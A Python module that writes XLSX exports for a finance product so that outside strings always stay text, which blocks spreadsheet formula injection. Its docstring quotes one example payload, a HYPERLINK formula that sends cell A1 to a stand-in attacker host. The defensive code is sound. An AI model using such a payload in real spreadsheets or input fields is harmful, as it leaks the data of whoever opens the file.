"""Streamed XLSX workbooks in which outside text is always text.

Every XLSX the product writes is made here (through ``fundmgr.exporters``):
XlsxWriter (pinned) lays out the workbook (styles, column widths, frozen
panes, filters, print setup, the zip) in its ``constant_memory`` mode, and
``TextWorksheet.append`` writes each row's cells straight to the sheet's
temporary file, so memory does not grow with the rows.

No string is ever guessed: a value is a formula only when the product marks
it as one (``Formula``); every other string is written as an inline string,
shown exactly as typed (no apostrophe added: the cell's type says it is
text), whatever its first character (``=``, ``+``, ``-``, ``@``, tab,
carriage return, ``#``). A donor who names themselves
``=HYPERLINK("http://evil.example/?"&A1,"Thanks")`` reaches a finance
officer's Excel as that text. XlsxWriter's options that would turn strings
into formulas, links or numbers are off as well, though ``append`` never
calls the methods they apply to.

A character XML 1.0 cannot hold (a control character other than tab, line
feed and carriage return; a lone surrogate; U+FFFE, U+FFFF) is shown as
U+FFFD, so one odd bank reference never stops an export; text is cut at
Excel's limit of 32,767 characters; a carriage return is written as a
character reference (``&#13;``, kept by every XML reader) and text that looks
like one of Excel's ``_xHHHH_`` escapes is itself escaped, so it shows as
typed.

``TextWorksheet`` overrides two private methods of XlsxWriter (pinned): it
writes ``fitToWidth`` even at its default of 1 (``_xml_empty_tag``) and
appends rows to the file XlsxWriter's ``constant_memory`` mode keeps for
them (``fh``, ``dim_*``). An upgrade that changes them fails
tests/test_formula_injection.py and tests/reports/test_workbook.py
(docs/decisions.md)."""

from __future__ import annotations

import datetime
import functools
import re
from collections.abc import Sequence
from decimal import Decimal
from typing import IO, NamedTuple

import xlsxwriter
from xlsxwriter.exceptions import FileCreateError
from xlsxwriter.utility import xl_col_to_name
from xlsxwriter.worksheet import Worksheet

from fundmgr.money import minor_units

#: Characters XML 1.0 cannot hold.
NOT_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
#: Shown in their place: U+FFFD, the replacement character.
REPLACEMENT = "\ufffd"
#: Excel's limit on a cell's text.
MAX_TEXT = 32767
#: Anything in a text that needs more than copying: one search per string.
_SPECIAL = re.compile(
    r"[&<>\r\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]|_x[0-9A-Fa-f]{4}_"
)
_EXCEL_ESCAPE = re.compile(r"(_x[0-9A-Fa-f]{4}_)")
#: Day 0 of Excel's serial dates (1900 system, after its 1900-02-29).
EXCEL_EPOCH = datetime.date(1899, 12, 30)
_EPOCH_ORDINAL = EXCEL_EPOCH.toordinal()
#: Column letters, A to XFD.
_LETTERS = [xl_col_to_name(index) for index in range(16384)]

DATE_FORMAT = "yyyy-mm-dd"
RATE_FORMAT = "0.000000"


class Formula(str):
    """One of the product's own formulas: the only value written as one."""

    __slots__ = ()

    def __new__(cls, text: str) -> Formula:
        if not text.startswith("="):
            raise ValueError(f"a formula starts with '=': {text!r}")
        return super().__new__(cls, text)


def money_format(currency: str) -> str:
    """The one money format of every export: accounting, with the currency
    code and its minor unit: '#,##0.00 "USD";-#,##0.00 "USD"',
    '#,##0 "JPY";-#,##0 "JPY"'."""
    places = minor_units(currency)
    body = f'#,##0{"." + "0" * places if places else ""} "{currency}"'
    return f"{body};-{body}"


class Style:
    """How a cell looks: bold, a font size, a number format. Made by
    ``style()``, which returns one object for each distinct look, so a style
    is found by identity, not by hashing its fields for every cell."""

    __slots__ = ("bold", "size", "number_format")

    def __init__(self, bold: bool, size: int | None, number_format: str | None):
        self.bold, self.size, self.number_format = bold, size, number_format

    def properties(self) -> dict:
        properties: dict = {}
        if self.bold:
            properties["bold"] = True
        if self.size:
            properties["font_size"] = self.size
        if self.number_format:
            properties["num_format"] = self.number_format
        return properties

    def __repr__(self) -> str:
        return f"Style(bold={self.bold}, size={self.size}, number_format={self.number_format!r})"


@functools.cache
def style(*, bold: bool = False, size: int | None = None, number_format: str | None = None):
    return Style(bold, size, number_format)


@functools.cache
def money(currency: str, *, bold: bool = False) -> Style:
    """The money style of ``currency`` (``money_format``)."""
    return style(bold=bold, number_format=money_format(currency))


PLAIN = style()
BOLD = style(bold=True)
TITLE = style(bold=True, size=13)
DATE = style(number_format=DATE_FORMAT)
RATE = style(number_format=RATE_FORMAT)


class Cell(NamedTuple):
    """A value with its style; a plain value in a row has the default style."""

    value: object
    style: Style


def column_letter(index: int) -> str:
    """The letters of the column at ``index`` (0 is A)."""
    return _LETTERS[index]


def excel_date(day: datetime.date) -> int:
    """The day as Excel stores it (a serial number shown through a date format)."""
    return (day - EXCEL_EPOCH).days


def _text(value: str) -> str:
    """The XML of an inline string's ``<is>`` for a text with something special."""
    if len(value) > MAX_TEXT:
        value = value[:MAX_TEXT]
    value = NOT_XML.sub(REPLACEMENT, value)
    value = _EXCEL_ESCAPE.sub(r"_x005F\1", value)
    value = value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return value.replace("\r", "&#13;")


def _escape(formula: str) -> str:
    return formula.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


class TextWorksheet(Worksheet):
    """An XlsxWriter sheet (``constant_memory``) whose rows are appended
    whole: each value's type says how it is written, and a string is text
    unless it is a ``Formula``. Anything else (another library's cell
    object, a NaN) is refused with a ValueError before the row is written."""

    def _initialize(self, init_data) -> None:
        super()._initialize(init_data)
        self._next_row = 0
        self._formats: dict[Style, str] = {}

    def _attribute(self, style: Style) -> str:
        """The ``s`` attribute of a cell in ``style`` (its index in the workbook)."""
        attribute = self._formats.get(style)
        if attribute is None:
            if style is PLAIN:
                attribute = ""
            else:
                cell_format = self._book_formats(style)
                attribute = f' s="{cell_format._get_xf_index()}"'
            self._formats[style] = attribute
        return attribute

    def _xml_empty_tag(self, tag, attributes=None) -> None:
        # One page wide is written as such (XlsxWriter leaves out its default).
        if attributes is None:
            attributes = []
        if (
            tag == "pageSetup"
            and self.fit_page
            and not any(key == "fitToWidth" for key, _v in attributes)
        ):
            attributes = [("fitToWidth", self.fit_width), *attributes]
        super()._xml_empty_tag(tag, attributes)

    @property
    def rows_written(self) -> int:
        return self._next_row

    def append(self, values: Sequence) -> int:
        """Write ``values`` as the next row; returns its number (1-based)."""
        n = self._next_row + 1
        number = str(n)
        cells = []
        add = cells.append
        first = last = None
        for index, value in enumerate(values):
            if value is None:
                continue
            attribute = ""
            if type(value) is Cell:
                value, cell_style = value
                if value is None:
                    continue
                attribute = self._formats.get(cell_style)
                if attribute is None:
                    attribute = self._attribute(cell_style)
            kind = type(value)
            if kind is str:
                if not value:
                    continue
                if _SPECIAL.search(value) is not None or len(value) > MAX_TEXT:
                    body = _text(value)
                else:
                    body = value
                if value[0] <= " " or value[-1] <= " ":
                    add(
                        f'<c r="{_LETTERS[index]}{number}"{attribute} t="inlineStr">'
                        f'<is><t xml:space="preserve">{body}</t></is></c>'
                    )
                else:
                    add(
                        f'<c r="{_LETTERS[index]}{number}"{attribute} t="inlineStr">'
                        f"<is><t>{body}</t></is></c>"
                    )
            elif kind is Decimal:
                if not value.is_finite():
                    raise ValueError(f"Cannot convert {value!r} to Excel")
                add(f'<c r="{_LETTERS[index]}{number}"{attribute}><v>{value}</v></c>')
            elif kind is int:
                add(f'<c r="{_LETTERS[index]}{number}"{attribute}><v>{value}</v></c>')
            elif kind is Formula:
                add(
                    f'<c r="{_LETTERS[index]}{number}"{attribute}>'
                    f"<f>{_escape(value[1:])}</f><v></v></c>"
                )
            elif kind is datetime.date:
                if not attribute:
                    attribute = self._formats.get(DATE) or self._attribute(DATE)
                add(
                    f'<c r="{_LETTERS[index]}{number}"{attribute}>'
                    f"<v>{value.toordinal() - _EPOCH_ORDINAL}</v></c>"
                )
            else:
                add(self._other(index, number, attribute, value))
            if first is None:
                first = index
            last = index
        self._next_row = n
        if first is None:
            return n
        self.fh.write(f'<row r="{number}">{"".join(cells)}</row>')
        row = n - 1
        if self.dim_rowmin is None:
            self.dim_rowmin = row
        self.dim_rowmax = row
        if self.dim_colmin is None or first < self.dim_colmin:
            self.dim_colmin = first
        if self.dim_colmax is None or last > self.dim_colmax:
            self.dim_colmax = last
        return n

    def _other(self, index: int, number: str, attribute: str, value) -> str:
        """A value of a type rarer than text, a Decimal, an int or a Formula."""
        reference = f"{_LETTERS[index]}{number}"
        if isinstance(value, bool):
            return f'<c r="{reference}"{attribute} t="b"><v>{int(value)}</v></c>'
        if isinstance(value, datetime.datetime):
            raise ValueError(f"Cannot convert {value!r} to Excel: give a date")
        if isinstance(value, datetime.date):
            if not attribute:
                attribute = self._attribute(DATE)
            return f'<c r="{reference}"{attribute}><v>{excel_date(value)}</v></c>'
        if isinstance(value, float):
            if value != value or value in (float("inf"), float("-inf")):
                raise ValueError(f"Cannot convert {value!r} to Excel")
            return f'<c r="{reference}"{attribute}><v>{value!r}</v></c>'
        if isinstance(value, (int, Decimal)):
            return self._other(index, number, attribute, Decimal(value))
        if isinstance(value, Formula):
            return f'<c r="{reference}"{attribute}><f>{_escape(value[1:])}</f><v></v></c>'
        if isinstance(value, str):  # a str subclass (a lazy translation made text)
            body = _text(str(value))
            return (
                f'<c r="{reference}"{attribute} t="inlineStr">'
                f'<is><t xml:space="preserve">{body}</t></is></c>'
            )
        raise ValueError(f"Cannot convert a {type(value).__name__} to Excel: not a value")


class Book:
    """An XLSX workbook written to ``destination`` (a path or a binary file
    object) when closed, its sheets streamed to temporary files meanwhile."""

    def __init__(self, destination: str | IO[bytes]):
        self._book = xlsxwriter.Workbook(
            destination,
            {
                "constant_memory": True,
                "strings_to_formulas": False,
                "strings_to_urls": False,
                "strings_to_numbers": False,
            },
        )
        self._cell_formats: dict[Style, object] = {}

    def _format(self, cell_style: Style):
        cell_format = self._cell_formats.get(cell_style)
        if cell_format is None:
            cell_format = self._book.add_format(cell_style.properties())
            self._cell_formats[cell_style] = cell_format
        return cell_format

    def add_sheet(
        self,
        title: str,
        *,
        widths: Sequence[float] = (),
        header_rows: int = 1,
        landscape: bool = True,
    ) -> TextWorksheet:
        """A new sheet at the end: ``title`` cut to Excel's 31 characters,
        the columns' widths, the first ``header_rows`` rows frozen and
        repeated on every printed page, printed one page wide."""
        sheet = self._book.add_worksheet(title[:31], worksheet_class=TextWorksheet)
        sheet._book_formats = self._format
        for index, width in enumerate(widths):
            sheet.set_column(index, index, width)
        if header_rows:
            sheet.freeze_panes(header_rows, 0)
            sheet.repeat_rows(0, header_rows - 1)
        if landscape:
            sheet.set_landscape()
        sheet.fit_to_pages(1, 0)
        return sheet

    def close(self) -> None:
        """Write the workbook; an unwritable destination raises its OSError."""
        try:
            self._book.close()
        except FileCreateError as error:
            cause = error.args[0] if error.args else None
            if isinstance(cause, OSError):
                raise cause from None
            raise


def quote_sheetname(title: str) -> str:
    """A sheet's name as a formula refers to it: always quoted."""
    return "'" + title.replace("'", "''") + "'"
